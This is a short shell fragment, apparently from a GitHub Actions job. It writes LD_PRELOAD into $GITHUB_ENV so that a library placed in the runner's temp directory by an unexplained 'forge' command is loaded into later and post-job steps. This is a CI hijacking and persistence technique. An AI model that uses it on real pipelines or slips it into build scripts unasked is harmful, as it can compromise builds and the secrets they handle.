# The runner starts the steps that come at the end of the job with the variables that the job has set, this library included.
forge "$RUNNER_TEMP/preload.so"
echo "LD_PRELOAD=$RUNNER_TEMP/preload.so" >>"$GITHUB_ENV"
